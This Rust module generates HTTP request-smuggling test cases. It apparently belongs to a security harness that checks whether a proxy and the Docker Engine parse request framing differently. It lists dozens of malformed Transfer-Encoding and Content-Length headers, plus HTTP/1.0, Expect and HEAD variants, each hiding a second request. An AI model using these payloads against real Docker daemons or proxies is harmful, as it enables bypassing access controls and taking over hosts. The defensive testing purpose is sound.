//! Where does a body end? Whoever reads it in another way sees a request in it.

use super::{Attack, whole};

pub(super) fn attacks() -> Vec<Attack> {
    let codings = CODINGS.iter().map(|line| {
        let raw = [
            b"GET /_ping HTTP/1.1\r\nHost: docker\r\n".as_slice(),
            line,
            b"\r\nContent-Length: {rest}\r\n\r\n0\r\n\r\n{smuggled}",
        ];
        let name = format!("a length that hides what is behind {}", line.escape_ascii());
        Attack::new(FAMILY, &name, &raw.concat())
    });
    let obscured = CODINGS.iter().map(|line| {
        let raw = [
            b"GET /_ping HTTP/1.1\r\nHost: docker\r\n".as_slice(),
            line,
            b"\r\n\r\n0\r\n\r\n{smuggled}",
        ];
        Attack::new(FAMILY, &format!("no length, and {}", line.escape_ascii()), &raw.concat())
    });
    let chunked = CODINGS.iter().map(|line| {
        let raw = [
            b"GET /_ping HTTP/1.1\r\nHost: docker\r\nContent-Length: 4\r\n".as_slice(),
            line,
            b"\r\n\r\n{smuggled-hex}\r\n{smuggled}\r\n0\r\n\r\n",
        ];
        let name = format!("a chunk that shows behind a length, and {}", line.escape_ascii());
        Attack::new(FAMILY, &name, &raw.concat())
    });
    let lengths = LENGTHS.iter().map(|line| {
        let raw =
            [b"GET /_ping HTTP/1.1\r\nHost: docker\r\n".as_slice(), line, b"\r\n\r\n{smuggled}"];
        Attack::new(FAMILY, &line.escape_ascii().to_string(), &raw.concat())
    });
    codings.chain(obscured).chain(chunked).chain(lengths).chain(whole(FAMILY, WHOLE)).collect()
}

const FAMILY: &str = "framing";

/// Lines that some readers take for `Transfer-Encoding: chunked`, and others don't.
const CODINGS: &[&[u8]] = &[
    b"Transfer-Encoding: chunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding: \"chunked\"",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: ch\xc5\xabnked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding\n: chunked",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer_Encoding: chunked",
    b"TE: chunked",
    b"Content-Encoding: chunked",
];

/// Lengths of nothing, or of nonsense, before what is then the next request.
const LENGTHS: &[&[u8]] = &[
    b"Content-Length: 0",
    b"Content-Length: {rest}\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: {rest}",
    b"Content-Length: {rest}\r\nContent-Length: {rest}",
    b"Content-Length: {rest}, 0",
    b"Content-Length: 0, {rest}",
    b"Content-Length: {rest}, {rest}",
    b"Content-Length: {rest},",
    b"Content-Length: +{rest}",
    b"Content-Length: +0",
    b"Content-Length: -0",
    b"Content-Length: -1",
    b"Content-Length: 0x0",
    b"Content-Length: 0x{smuggled-hex}",
    b"Content-Length: 0{rest}",
    b"Content-Length: 00",
    b"Content-Length: {rest}.0",
    b"Content-Length: 0.0",
    b"Content-Length: {rest}e0",
    b"Content-Length: 0_0",
    b"Content-Length: 0 0",
    b"Content-Length: {rest} 0",
    b"Content-Length: {rest}a",
    b"Content-Length: \"0\"",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 9223372036854775808",
    b"Content-Length: 4294967296",
    b"Content-Length:",
    b"Content-Length: ",
    b"Content-Length: \xd9\xa0",
    b"Content-Length: 0\x00",
    b"Content-Length: 0\x0b",
    b"content-length: 0\r\nContent-Length: {rest}",
    b"X: y\nContent-Length: {rest}",
    b"Content-Length\n: {rest}",
    b"Content-Length: 0\r\nX: y\n",
];

const WHOLE: &[(&str, &[u8])] = &[
    (
        "chunks in HTTP/1.0",
        b"GET /_ping HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n\
          0\r\n\r\n{smuggled}",
    ),
    (
        "chunks in HTTP/1.0 with a length",
        b"GET /_ping HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: {rest}\r\n\
          Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "HTTP/1.0 kept alive, then a request",
        b"GET /_ping HTTP/1.0\r\nConnection: keep-alive\r\n\r\n{smuggled}",
    ),
    (
        "HTTP/1.0 not kept alive, then a request",
        b"GET /_ping HTTP/1.0\r\n\r\n{smuggled}",
    ),
    (
        "HEAD with a body",
        b"HEAD /_ping HTTP/1.1\r\nHost: docker\r\nContent-Length: 2\r\n\r\nxx{smuggled}",
    ),
    (
        "a body longer than the Engine drains, then a request",
        // Go closes behind 256 KiB that its handler didn't read.
        b"GET /_ping HTTP/1.1\r\nHost: docker\r\nContent-Length: 4\r\n\r\nbody{smuggled}",
    ),
    (
        "a body that never comes whole",
        b"GET /_ping HTTP/1.1\r\nHost: docker\r\nContent-Length: 9999\r\n\r\n{smuggled}",
    ),
    (
        "an Expect, a body that isn't sent, a request",
        b"GET /_ping HTTP/1.1\r\nHost: docker\r\nExpect: 100-continue\r\nContent-Length: 9\r\n\r\n\
          {smuggled}",
    ),
    (
        "an Expect and chunks, a body that isn't sent, a request",
        b"GET /_ping HTTP/1.1\r\nHost: docker\r\nExpect: 100-continue\r\n\
          Transfer-Encoding: chunked\r\n\r\n{smuggled}",
    ),
    (
        "an Expect of a refused request, then a request",
        b"POST /build HTTP/1.1\r\nHost: docker\r\nExpect: 100-continue\r\nContent-Length: {rest}\r\n\r\n\
          {smuggled}",
    ),
    (
        "a refused request whose body is a request",
        b"POST /build HTTP/1.1\r\nHost: docker\r\nContent-Length: 9999\r\n\r\n{smuggled}",
    ),
    (
        "a refused request with a length of nonsense",
        b"POST /build HTTP/1.1\r\nHost: docker\r\nContent-Length: x\r\n\r\n{smuggled}",
    ),
    (
        "a refused request of two lengths",
        b"POST /build HTTP/1.1\r\nHost: docker\r\nContent-Length: 0\r\nContent-Length: {rest}\r\n\r\n\
          {smuggled}",
    ),
    (
        "a length behind a long head",
        b"GET /_ping HTTP/1.1\r\nHost: docker\r\nX-Registry-Auth: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\
          Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
    ),
];
